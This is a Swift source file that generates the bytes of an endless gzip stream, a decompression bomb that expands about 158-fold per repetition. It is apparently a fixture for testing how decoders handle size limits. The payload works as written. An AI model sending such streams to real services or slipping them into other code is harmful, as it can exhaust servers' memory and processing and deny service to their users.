/// A gzip stream without end that unpacks to 158 times its size.
public enum DeflateBomb {
  /// What the stream begins with: a gzip header, and a block that begins with the letter `x`.
  public static let beginning: [UInt8] = {
    var bits = Bits()
    bits.bytes = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
    // Last block, fixed Huffman codes (RFC 1951, section 3.2.6).
    bits.append(1, count: 1)
    bits.append(1, count: 2)
    bits.appendCode(0x30 + UInt16(UInt8(ascii: "x")), count: 8)
    // Matches up to the next whole byte: 13 bits each, so 8 positions until one falls there.
    while bits.count % 8 != 0 { bits.appendMatch() }
    return bits.bytes
  }()

  /// What may follow as often as one likes: 8 times "258 bytes from one back".
  public static let period: [UInt8] = {
    var bits = Bits()
    for _ in 0..<8 { bits.appendMatch() }
    return bits.bytes
  }()

  private struct Bits {
    var bytes: [UInt8] = []
    var count = 0

    /// A number, its lowest bit first.
    mutating func append(_ value: UInt16, count bits: Int) {
      for index in 0..<bits {
        if count % 8 == 0 { bytes.append(0) }
        if value >> UInt16(index) & 1 == 1 { bytes[bytes.count - 1] |= 1 << UInt8(count % 8) }
        count += 1
      }
    }

    /// A Huffman code, its highest bit first.
    mutating func appendCode(_ code: UInt16, count bits: Int) {
      for index in (0..<bits).reversed() { append(code >> UInt16(index) & 1, count: 1) }
    }

    /// Length 258 (symbol 285) at distance 1 (symbol 0).
    mutating func appendMatch() {
      appendCode(0b1100_0101, count: 8)
      appendCode(0, count: 5)
    }
  }
}
